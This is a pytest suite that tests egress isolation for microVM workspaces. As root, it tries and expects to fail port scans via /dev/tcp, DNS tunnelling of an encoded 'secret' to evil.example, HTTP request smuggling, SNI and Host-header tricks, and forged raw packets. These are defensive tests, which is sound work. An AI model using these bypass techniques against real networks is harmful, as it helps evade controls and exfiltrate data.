"""The checklist's questions about the network, and every known way around an egress list, tried by root in a real microVM.

Nothing that is not allowed may reach a server, and nothing is answered: silence, no reset, no ICMP. What the servers of the
test's internet heard is the proof, not what the guest says."""

import json
import pathlib
import subprocess
import time

import pytest

import internet as nets
import traces
from cofferdam import Cofferdam, wait_for

BATTERY = pathlib.Path(__file__).resolve().parents[1] / "support" / "battery.py"


@pytest.fixture(scope="module")
def internet():
    one = nets.Internet()
    yield one
    one.close()


@pytest.fixture(scope="module")
def daemon(golden, internet):
    one = nets.Networked(golden, internet, "deny: denied.allowed.example")
    one.up()
    yield one
    one.close()


def armed(daemon, *options):
    name = daemon.create("--ttl", "60m", *options, image="debian-12")
    daemon.ok("cp", BATTERY, f"{name}:/tmp/battery.py")
    return name


@pytest.fixture(scope="module")
def prisoner(daemon):
    """May reach one name, and a few that lead inwards."""
    allowed = ["allowed.example", "*.allowed.example", "rebind.example", "inside.example", "metadata.example", "loop.example",
               "mixed.example"]
    name = armed(daemon, *[word for one in allowed for word in ("--allow", one)])
    yield name
    daemon("rm", name)


@pytest.fixture
def attempt(daemon, prisoner, internet):
    internet.forget()

    def run(expression, limit=40):
        done = daemon.exec(prisoner, ["python3", "/tmp/battery.py", expression], "--user", "root", "--timeout", str(limit))
        assert done.status == 0, done
        return done.out.strip()

    return run


def curl(daemon, workspace, *words, limit=3):
    return daemon.exec(workspace, ["curl", "-sS", "-k", "-m", str(limit), *words], "--timeout", "30")


def unheard(internet, word="web"):
    time.sleep(0.2)
    assert internet.heard(word) == []


# -- a new workspace -----------------------------------------------------------------------------------------------------
def test_from_a_new_workspace_nothing_can_be_reached_or_discovered(daemon, internet):
    name = daemon.create("--ttl", "10m", image="debian-12")
    other = daemon.create("--ttl", "10m", "--allow", "allowed.example", image="minimal")
    try:
        neighbour = daemon.json("network", "show", other)["ip"]
        internet.forget()
        with internet.watching("not arp") as packets:
            targets = " ".join([nets.HOST, nets.SERVER, nets.INSIDE, "169.254.169.254", "10.212.0.0", "10.212.0.1", neighbour,
                                "127.0.0.1", "8.8.8.8"])
            done = daemon.exec(name, f"for a in {targets}; do for p in 22 53 80 443 5432 7070; do "
                               "timeout 2 bash -c \"echo >/dev/tcp/$a/$p\" 2>/dev/null && echo reached $a:$p; done; done; "
                               "cat /proc/net/route | tail -n +2; ip -o link show eth0", "--timeout", "120", "--user", "root")
        assert "reached" not in done.out, done
        assert "state DOWN" in done.out and len(done.out.splitlines()) == 1, done
        assert packets == [], packets
        unheard(internet)
        # Root may raise the card and give itself any address: there is still nobody.
        forged = daemon.exec(name, "ip link set eth0 up; ip addr add 10.212.0.1/16 dev eth0; ip route add default dev eth0; "
                             "for a in 10.212.0.0 169.254.169.254 45.83.0.1; do timeout 2 bash -c \"echo >/dev/tcp/$a/80\" 2>&1 && echo reached; done; "
                             "ip neigh show dev eth0 | grep -c REACHABLE", "--timeout", "30", "--user", "root")
        assert "reached" not in forged.out and forged.out.strip().endswith("0"), forged
    finally:
        daemon("rm", name)
        daemon("rm", other)


def test_the_namespace_of_a_workspace_without_holes_has_no_address(daemon):
    with daemon.workspace(image="minimal") as name:
        machine = traces.machine_of(daemon.state, name)
        vmm = [p for p in daemon.vmms() if any(machine in cgroup for cgroup in [p.cgroup])][0]
        shown = subprocess.run(["nsenter", f"--net=/proc/{vmm.pid}/ns/net", "ip", "-o", "addr"], capture_output=True, text=True, check=True)
        assert "inet" not in shown.stdout, shown.stdout
        routes = subprocess.run(["nsenter", f"--net=/proc/{vmm.pid}/ns/net", "ip", "route"], capture_output=True, text=True, check=True)
        assert routes.stdout == ""


def rules_of(process):
    return subprocess.run(["nsenter", f"--net=/proc/{process.pid}/ns/net", "nft", "list", "ruleset"], capture_output=True,
                          text=True, check=True).stdout


def test_every_wire_is_walled_off_before_anything_is_opened_in_the_pool_too(daemon):
    """Rules that drop by default, whatever the wiring says: frames at the TAP, and what the kernel would do with them."""
    with daemon.workspace(image="minimal") as name:
        machine = traces.machine_of(daemon.state, name)

        def pooled():
            return [p for p in daemon.vmms() if machine not in p.cgroup and "tap0" in links_of(p)]

        def links_of(process):
            done = subprocess.run(["nsenter", f"--net=/proc/{process.pid}/ns/net", "ip", "-o", "link"], capture_output=True,
                                  text=True, check=False)
            return done.stdout

        (own,) = [p for p in daemon.vmms() if machine in p.cgroup]
        waiting = wait_for(pooled, 60, "a machine of the pool")
        for process in (own, waiting[0]):
            shown = rules_of(process)
            assert 'hook ingress device "tap0" priority' in shown, shown
            for table in ("netdev", "ip", "ip6"):
                assert f"table {table} cofferdam" in shown, shown
            assert shown.count("policy drop;") == 7 and "accept" not in shown, shown
        # Root in the guest gives itself an address and speaks: the wall hears it, and nobody else does.
        with subprocess.Popen(["nsenter", f"--net=/proc/{own.pid}/ns/net", "tcpdump", "-l", "-n", "-i", "tap0", "-Q", "out"],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) as dump:
            while "listening on" not in dump.stderr.readline():
                assert dump.poll() is None
            daemon.exec(name, "ip link set eth0 up; ip addr add 10.212.0.1/16 dev eth0; ip route add default dev eth0; "
                        "for a in 10.212.0.0 1.1.1.1; do nc -w 1 $a 80 </dev/null; ping -c 1 -W 1 $a; done; true", "--user", "root",
                        "--timeout", "30")
            dump.terminate()
            answers = dump.stdout.read().strip()
        assert answers == "", answers


def test_a_scan_from_one_with_holes_finds_silence_and_no_reset(attempt, internet):
    targets = [f"{a}:{p}" for a in (nets.HOST, "169.254.169.254", nets.INSIDE, nets.OTHER) for p in (22, 80, 443, 5432)]
    targets += ["198.18.0.77:22", "198.18.0.77:8080"]
    found = attempt(f"scan(*{targets!r}, *[GATEWAY + ':' + str(p) for p in (1, 22, 80, 443, 5432, 7070)])", 90)
    assert all(line.split(" ", 1)[1] == "silence" for line in found.splitlines()), found
    unheard(internet)


def test_the_hosts_own_services_and_other_workspaces_are_silent(daemon, attempt):
    other = daemon.create("--ttl", "10m", "--allow", "allowed.example", image="debian-12")
    try:
        daemon.exec(other, "setsid python3 -m http.server 80 </dev/null >/dev/null 2>&1 &", "--user", "root")
        ip = daemon.json("network", "show", other)["ip"]
        assert attempt(f"scan('{ip}:80', '{ip}:22', '127.0.0.1:7070')").splitlines()[:2] == [f"{ip}:80 silence", f"{ip}:22 silence"]
    finally:
        daemon("rm", other)


# -- names and addresses -------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("host", ["45.83.0.9", "0x2d530009", "760414217", "0055.0123.0.011", "[::ffff:45.83.0.9]", "45.5439497"])
def test_ip_literals_in_every_spelling(daemon, prisoner, internet, host):
    internet.forget()
    assert curl(daemon, prisoner, f"http://{host}/").status != 0
    assert curl(daemon, prisoner, f"https://{host}/").status != 0
    unheard(internet)


def test_another_name_server_is_not_reached(attempt, internet):
    assert attempt(f"udp('{nets.SERVER}', 53, query('allowed.example'))") == "silence"
    assert attempt(f"tcp('{nets.SERVER}', 53, b'\\0\\x1d' + query('allowed.example'))") == "silence"
    unheard(internet, "dns")


def test_dns_tunnelling_sends_no_query_outside(attempt, internet):
    for name in ("c2VjcmV0.evil.example", "a" * 60 + "." + "b" * 60 + ".evil.example", "secret.example", "allowed.example.evil.example"):
        assert attempt(f"ask({name!r})") == "rcode 3 answers 0"
    unheard(internet, "dns")


def test_below_an_allowed_suffix_names_carry_nothing_out_until_they_are_dialled(attempt, internet):
    attempt("ask('c2VjcmV0.allowed.example')")
    unheard(internet, "dns c2")


@pytest.mark.parametrize("kind", [10, 15, 16, 28, 33, 64, 65, 255])
def test_other_types_of_questions_get_nothing(attempt, internet, kind):
    answer = attempt(f"ask('allowed.example', {kind})")
    assert answer.endswith("answers 0") or answer == "silence", answer
    unheard(internet, "dns")


def test_tricks_with_etc_hosts(daemon, prisoner, attempt, internet):
    assert curl(daemon, prisoner, "--resolve", f"allowed.example:443:{nets.OTHER}", "https://allowed.example/").status != 0
    synthetic = attempt("address_of('allowed.example')")
    internet.forget()
    assert curl(daemon, prisoner, "--resolve", f"other.example:443:{synthetic}", "https://other.example/").status != 0
    assert curl(daemon, prisoner, "--resolve", f"other.example:80:{synthetic}", "http://other.example/").status != 0
    unheard(internet)


def test_a_rebinding_server_gains_nothing(daemon, prisoner, internet):
    internet.forget()
    for _ in range(3):
        curl(daemon, prisoner, "http://rebind.example/")
    assert not [line for line in internet.heard("web") if nets.INSIDE in line]


@pytest.mark.parametrize("name", ["inside.example", "metadata.example", "loop.example"])
def test_allowed_names_that_lead_inwards_are_refused(daemon, prisoner, internet, name):
    internet.forget()
    for scheme in ("http", "https"):
        assert curl(daemon, prisoner, f"{scheme}://{name}/").status != 0
    unheard(internet)


def test_of_mixed_addresses_the_inside_one_is_never_dialled(daemon, prisoner, internet):
    internet.forget()
    with internet.watching(f"host {nets.INSIDE}") as packets:
        for _ in range(3):
            curl(daemon, prisoner, "http://mixed.example/")
    assert packets == [], packets


def test_the_operators_denial_is_above_every_list(daemon, prisoner, internet):
    internet.forget()
    assert curl(daemon, prisoner, "http://denied.allowed.example/").status != 0
    unheard(internet)


# -- TLS -----------------------------------------------------------------------------------------------------------------
def test_sni_of_another_host_is_refused(attempt, internet):
    assert attempt("handshake(address_of('allowed.example'), hello('other.example'))").startswith(("closed", "error"))
    assert attempt("handshake(address_of('allowed.example'), hello('www.allowed.example'))").startswith(("closed", "error"))
    assert attempt("handshake(address_of('allowed.example'), hello('allowed.example'))") == "served"


def test_no_sni_is_refused(attempt):
    assert attempt("handshake(address_of('allowed.example'), hello(''))").startswith(("closed", "error"))


def test_ech_is_refused_where_strict_is_asked(daemon, internet):
    ech = "b'\\xfe\\x0d\\0\\4\\0\\1\\2\\3'"
    name = armed(daemon, "--allow", "strict://allowed.example", "--allow", "www.allowed.example")
    try:
        def shake(host, what):
            expression = f"handshake(address_of({host!r}), {what})"
            return daemon.exec(name, ["python3", "/tmp/battery.py", expression], "--user", "root", "--timeout", "40").out.strip()

        assert shake("allowed.example", "hello('allowed.example')") == "served"
        internet.forget()
        hidden = f"extended(hello('allowed.example'), {ech})"
        assert shake("allowed.example", hidden).startswith(("closed", "error"))
        wait_for(lambda: [f for f in daemon.connections(name) if f["reason"] == "ech"], 10, "the record of it")
        # Where it is not asked, the name outside is held to, as documented.
        assert shake("www.allowed.example", f"extended(hello('www.allowed.example'), {ech})") == "served"
    finally:
        daemon("rm", name)


def test_fronting_over_tls_reaches_the_allowed_server_and_no_other(daemon, prisoner, internet):
    internet.forget()
    done = curl(daemon, prisoner, "-H", "Host: other.example", "https://allowed.example/")
    assert f"hello from {nets.SERVER}" in done.out
    assert not [line for line in internet.heard("web") if nets.OTHER in line]


def test_a_client_hello_in_many_segments_is_judged_whole(attempt):
    assert attempt("handshake(address_of('allowed.example'), hello('allowed.example'), 100, 0.005)") == "served"
    assert attempt("handshake(address_of('allowed.example'), hello('other.example'), 100, 0.005)").startswith(("closed", "error"))


def test_an_oversized_client_hello_is_refused(attempt, internet):
    big = "b'\\x16\\x03\\x01\\x40\\x00\\x01\\x00\\xff\\xff' + b'A' * 300000"
    assert not attempt(f"handshake(address_of('allowed.example'), {big})").startswith("served")
    unheard(internet)


def test_another_protocol_on_443_is_refused(attempt, internet):
    for first in ("b'SSH-2.0-OpenSSH_9.2\\r\\n'", "b'\\0' * 64", "b'EHLO x\\r\\n'"):
        assert not attempt(f"handshake(address_of('allowed.example'), {first})").startswith("served")
    unheard(internet)


def test_a_slow_drip_is_cut_at_the_deadline(attempt, internet):
    began = time.monotonic()
    answer = attempt("handshake(address_of('allowed.example'), hello('allowed.example'), 60, 0.5)", 90)
    assert answer != "served" and time.monotonic() - began < 60, answer
    unheard(internet)


# -- HTTP ----------------------------------------------------------------------------------------------------------------
def test_another_host_header_is_refused(attempt, internet):
    attempt("http(address_of('allowed.example'), 'GET / HTTP/1.1\\nHost: other.example\\nConnection: close\\n\\n')")
    attempt("http(address_of('allowed.example'), 'GET http://other.example/ HTTP/1.1\\nHost: allowed.example\\nConnection: close\\n\\n')")
    attempt("http(address_of('allowed.example'), 'GET / HTTP/1.1\\nHost: allowed.example\\nHost: other.example\\n\\n')")
    attempt("http(address_of('allowed.example'), 'GET / HTTP/1.0\\n\\n')")
    assert not [line for line in internet.heard("web") if "other.example" in line]


def test_a_change_of_host_on_a_kept_connection_is_refused(attempt, internet):
    attempt("http(address_of('allowed.example'), 'GET /one HTTP/1.1\\nHost: allowed.example\\n\\nGET /two HTTP/1.1\\nHost: other.example\\n\\n')")
    assert internet.heard("/one") and not internet.heard("/two")


def test_request_smuggling_is_refused(attempt, internet):
    inner = "GET /inner HTTP/1.1\\nHost: other.example\\n\\n"
    for head in ("Content-Length: 4\\nTransfer-Encoding: chunked", "Content-Length: 4\\nContent-Length: 40",
                 "Transfer-Encoding: chunked\\nTransfer-Encoding: identity", "Transfer-Encoding : chunked", "Content-Length: +4"):
        attempt(f"http(address_of('allowed.example'), 'POST / HTTP/1.1\\nHost: allowed.example\\n{head}\\n\\n0\\n\\n{inner}', 2)")
    assert not [line for line in internet.heard("web") if "other.example" in line]


def test_connect_is_refused(attempt, internet):
    attempt("http(address_of('allowed.example'), 'CONNECT other.example:443 HTTP/1.1\\nHost: allowed.example\\n\\n')")
    attempt("http(address_of('allowed.example'), 'CONNECT other.example:443 HTTP/1.1\\nHost: other.example:443\\n\\n')")
    unheard(internet)


def test_redirects_inwards_lead_nowhere(daemon, prisoner, internet):
    internet.forget()
    assert curl(daemon, prisoner, "-L", "http://allowed.example/redirect").status != 0
    assert not internet.heard("/secret")


def test_dns_over_https_to_an_unlisted_host(daemon, prisoner, internet):
    internet.forget()
    assert curl(daemon, prisoner, "--doh-url", f"https://{nets.OTHER}/dns-query", "https://files.example/").status != 0
    unheard(internet)


# -- below TCP -----------------------------------------------------------------------------------------------------------
def test_quic_and_all_other_udp_is_dropped(attempt, internet):
    with internet.watching("udp and not port 53") as packets:
        assert attempt("udp(address_of('allowed.example'), 443, b'\\xc0' + b'\\0' * 1199)") == "silence"
        assert attempt(f"udp('{nets.SERVER}', 443, b'\\xc0' + b'\\0' * 1199)") == "silence"
    assert packets == [], packets


def test_icmp_is_dropped(attempt, internet):
    with internet.watching("icmp") as packets:
        for target in ("GATEWAY", "'198.18.0.1'", f"'{nets.SERVER}'"):
            assert attempt(f"frames(ip(own_address(), {target}, 1, echo_request()), target=gateway_card())") == "silence"
    assert packets == [], packets


@pytest.mark.parametrize("protocol", [2, 4, 41, 47, 50, 132, 136, 255])
def test_raw_packets_of_other_protocols_are_dropped(attempt, internet, protocol):
    """IGMP, IP in IP, IPv6 in IP, GRE, ESP, SCTP, UDP-Lite, and none at all."""
    with internet.watching("ip and not tcp and not udp") as packets:
        inner = "ip(own_address(), '45.83.0.1', 6, syn(own_address(), '45.83.0.1', 80))" if protocol == 4 else "b'x' * 32"
        for target in ("address_of('allowed.example')", repr(nets.SERVER)):
            assert attempt(f"frames(ip(own_address(), {target}, {protocol}, {inner}), target=gateway_card())") == "silence"
    assert packets == [], packets
    unheard(internet)


def test_a_raw_socket_gets_no_further_than_any_other(attempt, internet):
    with internet.watching("tcp[tcpflags] & tcp-syn != 0") as packets:
        for target in (nets.SERVER, nets.INSIDE, "169.254.169.254"):
            assert attempt(f"frames(ip(own_address(), '{target}', 6, syn(own_address(), '{target}', 80)), target=gateway_card())") == "silence"
    assert packets == [], packets
    unheard(internet)


def test_ipv6_is_not_there(attempt, internet):
    with internet.watching("ip6") as packets:
        solicitation = "bytes.fromhex('6000000000083afffe800000000000000000000000000001ff020000000000000000000000000002') + b'\\x85\\0\\0\\0\\0\\0\\0\\0'"
        assert attempt(f"frames({solicitation}, kind=0x86dd, target=gateway_card())") == "silence"
    assert packets == [], packets


def test_another_source_address_is_dropped(attempt, internet):
    with internet.watching("net 10.212.0.0/14 or net 198.18.0.0/15") as packets:
        for source in ("10.212.3.3", nets.HOST, "127.0.0.1", "GATEWAY"):
            text = source if source == "GATEWAY" else repr(source)
            assert attempt(f"frames(ip({text}, address_of('allowed.example'), 6, syn({text}, address_of('allowed.example'), 80)), target=gateway_card())") == "silence"
    assert packets == [], packets
    unheard(internet)


def test_another_card_is_dropped(attempt, internet):
    forged = "b'\\x02\\xcf\\x0a\\xd4\\x33\\x33'"
    assert attempt("frames(ip(own_address(), address_of('allowed.example'), 6, syn(own_address(), address_of('allowed.example'), 80)), "
                   f"target=gateway_card(), source={forged})") == "silence"
    unheard(internet)


def test_arp_tells_nothing_but_the_gateway(attempt):
    def ask(target, own="own_address()"):
        who = f"socket.inet_aton({target})"
        return attempt(f"frames(bytes.fromhex('0001080006040001') + bytes.fromhex(open('/sys/class/net/eth0/address').read().strip().replace(':', '')) + "
                       f"socket.inet_aton({own}) + b'\\0' * 6 + {who}, kind=0x0806)")

    assert ask("GATEWAY").startswith("frame 0806")
    assert ask(repr(nets.SERVER)) == "silence" and ask("'10.212.77.1'") == "silence"
    assert ask("GATEWAY", own="'10.212.77.1'") == "silence"


def test_pieces_of_packets_are_dropped(attempt, internet):
    piece = "ip(own_address(), address_of('allowed.example'), 6, syn(own_address(), address_of('allowed.example'), 80)[:8], 0x2000)"
    assert attempt(f"frames({piece}, target=gateway_card())") == "silence"
    unheard(internet)


# -- time ----------------------------------------------------------------------------------------------------------------
def test_flows_opened_before_the_policy_changed_are_cut(daemon, internet):
    name = armed(daemon, "--allow", "allowed.example")
    try:
        daemon.exec(name, "setsid python3 /tmp/battery.py \"hold('allowed.example', '/tmp/held')\" </dev/null >/dev/null 2>&1 &")
        wait_for(lambda: "alive" in daemon.exec(name, "cat /tmp/held").out, 20, "the held connection")
        daemon.ok("network", "allow", name, "files.example")
        wait_for(lambda: "broken" in daemon.exec(name, "cat /tmp/held").out, 10, "the end of the held connection")
        internet.forget()
        time.sleep(1)
        unheard(internet)
    finally:
        daemon("rm", name)


def test_rules_after_a_restore_are_those_of_now_and_a_fork_has_none(daemon, internet):
    name = armed(daemon, "--allow", "allowed.example", "--permanent")
    site = daemon.create("--name", "restored-site", "--ttl", "30m", image="debian-12")
    forks = []
    try:
        daemon.exec(site, "cd /tmp && setsid python3 -m http.server 8000 </dev/null >/dev/null 2>&1 &")
        wait_for(lambda: daemon.exec(site, "curl -s -m 2 http://127.0.0.1:8000/").status == 0, 30, "the server inside")
        daemon.ok("link", "add", name, f"{site}:8000")
        linked = "curl -sS -m 8 -o /dev/null http://restored-site.internal:8000/"
        assert curl(daemon, name, "http://allowed.example/", limit=8).status == 0
        assert daemon.exec(name, linked, "--timeout", "30").status == 0
        taken = daemon.json("snapshot", "create", name)["id"]
        daemon.ok("network", "allow", name, "files.example")
        daemon.ok("snapshot", "restore", name, taken)
        # Inside, everything is as it was; what may be reached is what was said last.
        internet.forget()
        assert curl(daemon, name, "http://allowed.example/").status != 0
        assert not [line for line in internet.heard("web") if "allowed.example" in line]
        assert curl(daemon, name, "http://files.example/", limit=8).status == 0
        assert daemon.exec(name, linked, "--timeout", "30").status == 0
        daemon.ok("network", "allow", name, "allowed.example")
        assert curl(daemon, name, "http://allowed.example/", limit=8).status == 0
        forks = daemon.ok("fork", name, "--count", "1", "--name", "forked").out.split()
        internet.forget()
        shown = daemon.json("network", "show", forks[0])
        assert shown["egress"] == [] and shown["private_links"] == [] and not shown["allow_internet"], shown
        assert {link["from"] for link in daemon.json("link", "ls")["links"]} == {name}
        assert curl(daemon, forks[0], "http://allowed.example/").status != 0
        assert daemon.exec(forks[0], "curl -sS -m 3 http://restored-site.internal:8000/", "--timeout", "30").status != 0
        unheard(internet)
    finally:
        for one in (name, site, *forks):
            daemon("rm", one)


def test_while_the_gate_is_dead_everything_is_closed(golden, internet):
    """A gate that cannot start leaves every network closed, and silent."""
    one = nets.Networked(golden, internet)
    one.environment["COFFER_CONFIG"] = str(one.base / "closed.yaml")
    (one.base / "closed.yaml").write_text("gate: /bin/false\n")
    try:
        one.up()
        name = armed(one, "--allow", "allowed.example")
        internet.forget()
        done = one.exec(name, ["python3", "/tmp/battery.py", "scan(GATEWAY + ':53', '198.18.0.1:80', '198.18.0.1:443')"], "--timeout", "30")
        assert all(line.endswith(" silence") for line in done.out.splitlines()), done
        unheard(internet, "")
    finally:
        one.close()


# -- databases -----------------------------------------------------------------------------------------------------------
def test_a_database_is_reached_by_its_link_alone(golden, internet):
    # The image comes from the real mirrors, which a daemon in the test's own network cannot reach.
    builder = Cofferdam(golden=golden)
    one = None
    try:
        builder.up()
        builder.ok("image", "build", "postgres-15", timeout=900)
        builder.down()
        one = nets.Networked(builder.state, internet)
        one.up()
        db = one.create("--name", "db", "--ttl", "30m", "--memory", "1G", image="postgres-15")
        a = one.create("--name", "app", "--ttl", "30m", image="postgres-15")
        c = one.create("--name", "other", "--ttl", "30m", image="postgres-15")
        start = ("sudo sh -c \"echo \\\"listen_addresses='*'\\\" >/etc/postgresql/15/main/conf.d/20-listen.conf; "
                 "echo host all all 0.0.0.0/0 scram-sha-256 >>/etc/postgresql/15/main/pg_hba.conf; pg_ctlcluster 15 main start\"; "
                 "sudo -u postgres psql -q -c \"create user app password 'pw'\" -c \"create database app owner app\"")
        started = one.exec(db, start, "--timeout", "80")
        assert started.status == 0, started
        psql = "PGPASSWORD=pw PGCONNECT_TIMEOUT=4 psql -h db.internal -U app -d app -Atc 'select 6*7'"
        assert one.exec(a, psql, "--timeout", "30").status != 0
        one.ok("link", "add", a, "db:5432")
        linked = one.exec(a, psql, "--timeout", "60")
        assert linked.out.strip() == "42", linked
        # C cannot, the target cannot reach its source, another port is silent, the host does not answer.
        assert one.exec(c, psql, "--timeout", "30").status != 0
        own = one.json("network", "show", a)["ip"]
        target = one.json("link", "ls")["links"][0]["address"]
        probe = "timeout 3 bash -c 'echo >/dev/tcp/{}/{}' 2>&1; echo status $?"
        for port in (22, 5432, 40000):
            assert "status 124" in one.exec(db, probe.format(own, port), "--timeout", "20").out
        assert "status 124" in one.exec(a, probe.format(target, 22), "--timeout", "20").out
        refused = subprocess.run([*one.within, "bash", "-c", f"echo >/dev/tcp/{nets.HOST}/5432"], capture_output=True, check=False)
        assert refused.returncode != 0
        exposed = one("port", "expose", "db", "5432")
        assert exposed.status == 1 and "PostgreSQL" in exposed.err
        assert json.loads(one.ok("--json", "connections", a).out)["connections"]
    finally:
        if one:
            one.close()
        builder.close()
